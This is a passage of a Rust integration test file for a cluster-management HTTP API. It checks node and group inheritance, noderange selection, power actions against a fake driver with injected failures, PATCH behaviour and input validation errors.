        assert_eq!(s, StatusCode::CREATED, "{v}");
    }
    let mut nodes: Vec<Value> = (1..=6)
        .map(|i| {
            let groups = if i <= 3 { "compute,rack1" } else { "compute" };
            json!({"name": format!("c{i}"), "groups": groups})
        })
        .collect();
    nodes.push(json!({"name": "bad", "groups": ["compute", "broken"]}));
    // Its own arch wins over the group's.
    nodes.push(json!({"name": "own", "arch": "ppc64le", "groups": ["bmcs", "compute"]}));
    let (s, v) = call(&st, "POST", "/v1/nodes", Some(json!({"nodes": nodes}))).await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    assert!(
        v["nodes"].as_object().unwrap().values().all(|x| x == "ok"),
        "{v}"
    );

    // show: resolved values, marked.
    let (_, v) = call(&st, "GET", "/v1/nodes/bad", None).await;
    assert_eq!(v["mgt"], "fake");
    assert_eq!(v["netboot"], "ipxe");
    assert_eq!(v["groups"], json!(["compute", "broken"]));
    assert_eq!(
        v["inherited"],
        json!({"mgt": "compute", "netboot": "broken", "arch": "compute",
               "control_info.fake_fail_rate": "broken"})
    );
    let (_, v) = call(&st, "GET", "/v1/nodes/own?fields=mgt,arch,inherited", None).await;
    assert_eq!(
        v,
        json!({"mgt": "ipmi", "arch": "ppc64le",
               "inherited": {"mgt": "bmcs", "control_info.bmc_username": "bmcs"}})
    );

    // Noderanges: a group, an exclusion, an intersection.
    let (_, v) = call(&st, "GET", "/v1/nodes?noderange=compute,-rack1", None).await;
    assert_eq!(v, json!({"nodes": ["c4", "c5", "c6", "bad", "own"]}));
    let (_, v) = call(&st, "GET", "/v1/nodes?noderange=compute@rack1", None).await;
    assert_eq!(v, json!({"nodes": ["c1", "c2", "c3"]}));

    // The conductor acts on the resolved values.
    let (s, v) = call(
        &st,
        "PUT",
        "/v1/nodes/power?target=on&noderange=compute",
        None,
    )
    .await;
    assert_eq!(s, StatusCode::ACCEPTED);
    let r = v["nodes"].as_object().unwrap();
    assert_eq!(r.len(), 8);
    assert!((1..=6).all(|i| r[&format!("c{i}")] == "ok"), "{v}");
    assert_eq!(r["bad"], "fake: injected failure");
    // `own` is an IPMI node by its first group, and has no BMC address.
    assert_eq!(r["own"], "control_info.bmc_address: required for mgt=ipmi");

    // A group change applies to its members' next request.
    let (s, v) = call(
        &st,
        "PATCH",
        "/v1/groups/broken",
        Some(json!([{"op": "remove", "path": "/control_info/fake_fail_rate"}])),
    )
    .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    let (_, v) = call(&st, "GET", "/v1/nodes/power?noderange=bad", None).await;
    assert_eq!(v, json!({"nodes": {"bad": "off"}}));

    // A node PATCH edits the node's own values, never copies inherited ones.
    let (_, v) = call(
        &st,
        "PATCH",
        "/v1/nodes?noderange=c1",
        Some(json!({"patches": [{"op": "add", "path": "/netboot", "value": "pxe"}]})),
    )
    .await;
    assert_eq!(v, json!({"nodes": {"c1": "updated"}}));
    let (_, v) = call(
        &st,
        "GET",
        "/v1/nodes/c1?fields=netboot,mgt,inherited",
        None,
    )
    .await;
    assert_eq!(
        v,
        json!({"netboot": "pxe", "mgt": "fake",
               "inherited": {"mgt": "compute", "arch": "compute"}})
    );

    // Group show: members as a noderange; delete refused while it has any.
    let (_, v) = call(&st, "GET", "/v1/groups/rack1?fields=name,members", None).await;
    assert_eq!(v, json!({"name": "rack1", "members": "c[1-3]"}));
    let (s, v) = call(&st, "DELETE", "/v1/groups/rack1", None).await;
    assert_eq!(s, StatusCode::CONFLICT);
    assert!(
        v["faultstring"]
            .as_str()
            .unwrap()
            .contains("group rack1 has 3 member(s) (c1, c2, c3)"),
        "{v}"
    );

    // Names: nodes and groups share noderanges.
    let (s, _) = call(&st, "POST", "/v1/groups", Some(json!({"name": "c1"}))).await;
    assert_eq!(s, StatusCode::CONFLICT);
    let (_, v) = call(
        &st,
        "POST",
        "/v1/nodes",
        Some(json!({"nodes": [{"name": "rack1"}]})),
    )
    .await;
    assert!(
        v["nodes"]["rack1"]
            .as_str()
            .unwrap()
            .contains("a group has this name"),
        "{v}"
    );
    // Bad group documents name the field.
    let (s, v) = call(
        &st,
        "POST",
        "/v1/groups",
        Some(json!({"name": "g", "mgt": "ipmi", "control_info": {"bmc_adress": "x"}})),
    )
    .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert!(
        v["faultstring"]
            .as_str()
            .unwrap()
            .starts_with("group g: control_info.bmc_adress"),
        "{v}"
    );
    let (s, v) = call(
        &st,
        "POST",
        "/v1/nodes",
        Some(json!({"nodes": [{"name": "x", "groups": 5}]})),
    )
    .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert_eq!(
        v["faultstring"],
        "node x: nodes[0].groups: must be a list of group names or a comma-separated string"
    );
}

#[tokio::test]
async fn a_name_that_looks_like_a_range_is_taken_literally_without_reading_every_name() {
    let st = state().await;
    let nodes: Vec<Value> = ["n1", "n2", "n1-n2", "r1", "r2", "r3"]
        .iter()
        .map(|n| json!({"name": n}))
        .collect();
    call(&st, "POST", "/v1/nodes", Some(json!({"nodes": nodes}))).await;
    let names = |v: &Value| -> Vec<String> {
        v["nodes"]
            .as_array()
            .unwrap()
            .iter()
            .map(|n| n["name"].as_str().unwrap().to_string())
            .collect()
    };
    let (_, v) = call(
        &st,
        "GET",
        "/v1/nodes/info?fields=name&noderange=n1-n2",
        None,
    )
    .await;
    assert_eq!(names(&v), ["n1-n2"], "a stored name wins over the range");
    let (_, v) = call(
        &st,
        "GET",
        "/v1/nodes/info?fields=name&noderange=r1-r3,-r2",
        None,
    )
    .await;
    assert_eq!(names(&v), ["r1", "r3"]);
    let (_, v) = call(
        &st,
        "GET",
        "/v1/nodes/info?fields=name&noderange=/%5En%5Cd$",
        None,
    )
    .await;
    assert_eq!(names(&v), ["n1", "n2"], "a regex still sees every name");
}
